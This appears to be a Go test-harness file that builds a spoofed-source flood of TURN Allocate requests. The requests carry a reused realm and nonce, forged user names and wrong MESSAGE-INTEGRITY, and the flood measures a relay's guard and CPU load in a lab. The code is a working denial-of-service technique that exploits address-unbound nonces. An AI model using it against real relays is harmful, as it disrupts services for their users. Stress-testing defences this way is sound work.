package attack

import (
	"context"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"strconv"
	"time"

	"github.com/pion/stun/v4"
)

// turnMIFlood floods the TURN port with Allocates that carry
// MESSAGE-INTEGRITY, from spoofed sources: a valid NONCE and REALM (from
// one 401 the attacker asked for from its own address; pion's nonces are
// not bound to an address) and a well-formed, unexpired REST-API user name
// with a random user, so that each would pass pion's nonce check and our
// AuthHandler (an HMAC-SHA1 for the password, an MD5 for the key) and fail
// only at pion's MESSAGE-INTEGRITY check, which answers it. The relay's
// guard checks the integrity itself, within a global budget, and drops
// it unanswered. The relay's CPU and the legitimate TURN allocations
// (OpTURN) under it are judged.
func turnMIFlood(ctx context.Context, e *env) error {
	conn, err := listenUDP(e.lab.Bad, netip.AddrPortFrom(botAddr(1), 0))
	if err != nil {
		return err
	}
	first, err := turnRoundTrip(conn, e.srv.turnAddr, allocateRequest(), time.Now().Add(opTimeout))
	conn.Close()
	if err != nil {
		return fmt.Errorf("turn-mi-flood: the attacker's own 401: %w", err)
	}
	var realm stun.Realm
	var nonce stun.Nonce
	if err := realm.GetFrom(first); err != nil {
		return fmt.Errorf("turn-mi-flood: 401 without realm: %w", err)
	}
	if err := nonce.GetFrom(first); err != nil {
		return fmt.Errorf("turn-mi-flood: 401 without nonce: %w", err)
	}
	// A pool of requests with random users and keys; each datagram gets a
	// fresh transaction ID (no FINGERPRINT, which would cover it; the
	// MESSAGE-INTEGRITY is wrong anyway).
	expiry := strconv.FormatInt(time.Now().Add(time.Hour).Unix(), 10) + ":"
	pool := make([][]byte, 1024)
	for i := range pool {
		user := expiry + hex.EncodeToString(binary.LittleEndian.AppendUint64(nil, rand.Uint64()))
		m, err := stun.Build(stun.TransactionID, stun.NewType(stun.MethodAllocate, stun.ClassRequest),
			stun.RawAttribute{Type: stun.AttrRequestedTransport, Value: []byte{17, 0, 0, 0}},
			stun.NewUsername(user), realm, nonce,
			stun.NewLongTermIntegrity(user, realm.String(), hex.EncodeToString(binary.LittleEndian.AppendUint64(nil, rand.Uint64()))))
		if err != nil {
			return err
		}
		pool[i] = m.Raw
	}
	return spoofFlood(ctx, e, e.srv.turnAddr, len(pool[0]), func(r *rand.Rand, scratch []byte) ([]byte, netip.AddrPort) {
		b := append(scratch[:0], pool[r.IntN(len(pool))]...)
		fillRandom(r, b[8:20])
		return b, randomSource(r)
	})
}
